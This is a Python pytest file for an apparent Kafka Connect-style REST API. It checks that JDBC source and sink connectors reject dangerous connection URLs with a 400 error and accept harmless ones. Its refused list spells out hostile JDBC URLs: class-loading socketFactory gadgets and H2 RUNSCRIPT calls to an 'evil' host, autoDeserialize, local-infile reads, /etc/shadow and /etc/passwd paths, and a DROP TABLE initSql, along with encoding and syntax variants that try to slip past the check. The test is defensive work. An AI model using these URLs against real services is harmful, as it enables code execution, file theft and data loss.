"""A JDBC URL that could make the driver load a class, read a local file or run SQL is a 400 naming
what is refused, in every way it can be written, for the JDBC source and sink alike."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from tests.rest.conftest import Served

PG = "jdbc:postgresql://127.0.0.1:5432/db"
MY = "jdbc:mariadb://127.0.0.1:3306/db"
MYSQL = "jdbc:mysql://127.0.0.1:3306/db"

#: (URL, the word the 400 must name)
REFUSED = [
    # pgjdbc: classes named by the user, files written
    (f"{PG}?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext", "socketFactory"),
    (f"{PG}?user=u&socketFactoryArg=http://evil/x.xml", "socketFactoryArg"),
    (f"{PG}?sslfactory=x.Y&sslfactoryarg=z", "sslfactory"),
    (f"{PG}?sslhostnameverifier=x.Y", "sslhostnameverifier"),
    (f"{PG}?sslpasswordcallback=x.Y", "sslpasswordcallback"),
    (f"{PG}?authenticationPluginClassName=x.Y", "authenticationPluginClassName"),
    (f"{PG}?loggerFile=/tmp/x.jsp&loggerLevel=DEBUG", "loggerFile"),
    (f"{PG}?options=-c%20log_statement%3Dall", "options"),
    (f"{PG}?jaasApplicationName=x&jaasLogin=true", "jaasApplicationName"),
    (f"{PG}?localSocketAddress=10.0.0.1", "localSocketAddress"),
    (f"{PG}?sslkey=/etc/shadow", "sslkey"),
    # Connector/J (MySQL and MariaDB): local files, deserialization, classes, SQL
    (f"{MY}?allowLocalInfile=true", "allowLocalInfile"),
    (f"{MYSQL}?allowLoadLocalInfile=true", "allowLoadLocalInfile"),
    (f"{MYSQL}?allowUrlInLocalInfile=true", "allowUrlInLocalInfile"),
    (f"{MYSQL}?autoDeserialize=true", "autoDeserialize"),
    (f"{MYSQL}?queryInterceptors=x.Y", "queryInterceptors"),
    (f"{MYSQL}?statementInterceptors=x.Y", "statementInterceptors"),
    (f"{MYSQL}?exceptionInterceptors=x.Y", "exceptionInterceptors"),
    (f"{MYSQL}?connectionLifecycleInterceptors=x.Y", "connectionLifecycleInterceptors"),
    (f"{MYSQL}?authenticationPlugins=x.Y&defaultAuthenticationPlugin=x.Y", "authenticationPlugins"),
    (f"{MYSQL}?propertiesTransform=x.Y", "propertiesTransform"),
    (f"{MYSQL}?socketFactory=x.Y", "socketFactory"),
    (f"{MYSQL}?logger=x.Y", "logger"),
    (f"{MYSQL}?profilerEventHandler=x.Y", "profilerEventHandler"),
    (f"{MYSQL}?allowPublicKeyRetrieval=true", "allowPublicKeyRetrieval"),
    (f"{MYSQL}?serverRSAPublicKeyFile=/etc/passwd", "serverRSAPublicKeyFile"),
    (f"{MY}?credentialType=ENV", "credentialType"),
    (f"{MY}?localSocket=/var/run/mysqld/mysqld.sock", "localSocket"),
    (f"{MY}?pipe=x", "pipe"),
    (f"{MY}?sessionVariables=sql_log_bin=0", "sessionVariables"),
    (f"{MY}?initSql=DROP%20TABLE%20t", "initSql"),
    # every syntax: case, repetition, `;`, a bare key, encoding, host parts, schemes
    (f"{MY}?ALLOWLOCALINFILE=true", "ALLOWLOCALINFILE"),
    (f"{MY}?user=root&allowLocalInfile=false&allowLocalInfile=true", "allowLocalInfile"),
    (f"{MY}?user=root;allowLocalInfile=true", "allowLocalInfile"),
    (f"{MY}?allowLocalInfile", "allowLocalInfile"),
    (f"{MY}?%61llowLocalInfile=true", "%61llowLocalInfile"),
    (f"{MY}?allow%4CocalInfile=true", "allow%4CocalInfile"),
    (f"{MY}?allowLocalInfile%3Dtrue", "allowLocalInfile%3Dtrue"),
    (f"{MY}?user=a?allowLocalInfile=true", "second `?`"),
    (f"{MY};allowLocalInfile=true", "database name"),
    ("jdbc:mysql://(host=127.0.0.1,allowLoadLocalInfile=true)/db", "host[:port]"),
    ("jdbc:mysql://address=(host=127.0.0.1)(allowLoadLocalInfile=true)/db", "host[:port]"),
    ("jdbc:mysql://root:p=w@127.0.0.1/db", "host[:port]"),
    ("jdbc:mysql://root:pw@(allowLoadLocalInfile=true)/db", "host[:port]"),
    ("jdbc:mysql://allowLoadLocalInfile=true@127.0.0.1/db", "host[:port]"),
    ("jdbc:mysql://h1,h2/db", "host[:port]"),
    ("jdbc:mysql:replication://h1,h2/db", "jdbc:postgresql://host"),
    ("jdbc:mysql:loadbalance://h1/db", "jdbc:postgresql://host"),
    ("jdbc:mariadb:failover://h1/db", "jdbc:postgresql://host"),
    ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "whitespace"),
    ("jdbc:h2:mem:x;INIT=RUNSCRIPT%20FROM%20'http://evil/x.sql'", "jdbc:postgresql://host"),
    ("jdbc:derby:/tmp/x;create=true", "jdbc:postgresql://host"),
    ("JDBC:MYSQL://h/db", "jdbc:postgresql://host"),
    (f" {MY}?allowLocalInfile=true", "whitespace"),
    (f"{MY}?user=root&\tallowLocalInfile=true", "whitespace"),
    (f"{MY}?user=root&allowLocalInfile=true&password=${{env:PW}}", "allowLocalInfile"),
]


def _config(plugin: str, url: str) -> dict[str, Any]:
    if plugin == "JdbcSinkConnector":
        return {"connector.class": plugin, "connection.url": url, "topics": "t"}
    return {"connector.class": plugin, "connection.url": url, "table.whitelist": "t", "topic.prefix": ""}


@pytest.mark.parametrize("plugin", ["JdbcSourceConnector", "JdbcSinkConnector"])
def test_a_dangerous_jdbc_url_is_a_400_naming_it(api: Served, plugin: str) -> None:
    with httpx.Client(base_url=api.url, timeout=30) as client:
        for url, named in REFUSED:
            created = client.post("/connectors", json={"name": "c", "config": _config(plugin, url)})
            assert created.status_code == 400, (url, created.text)
            assert named in created.text and "connection.url" in created.text, (url, created.text)
            checked = client.put(f"/connector-plugins/{plugin}/config/validate", json=_config(plugin, url))
            assert checked.status_code == 200, (url, checked.text)  # Kafka's shape: errors in the body
            assert checked.json()["error_count"] >= 1 and named in checked.text, (url, checked.text)
        assert client.get("/connectors").json() == []


def test_harmless_urls_and_placeholders_are_accepted(api: Served) -> None:
    with httpx.Client(base_url=api.url, timeout=30) as client:
        for url in (
            f"{PG}?user=postgres&sslmode=require&ApplicationName=x&currentSchema=s",
            f"{MY}?user=root&password=p%26q&useSSL=true&connectTimeout=5000",
            "jdbc:postgresql://[::1]:5432/db",
            "jdbc:mysql://etl-user:db%40pass@db.internal:3307/shop",
            "jdbc:mariadb://${env:DB_HOST}/db?password=${env:PW}",
            "${airflow:conn:jdbc_url}",
        ):
            config = _config("JdbcSinkConnector", url)
            checked = client.put("/connector-plugins/JdbcSinkConnector/config/validate", json=config)
            assert checked.status_code == 200, (url, checked.text)
            errors = [e for c in checked.json()["configs"] for e in c["value"]["errors"]]
            # (`env` placeholders: the provider is not enabled here, which is its own error)
            assert not [e for e in errors if "provider" not in e], (url, errors)
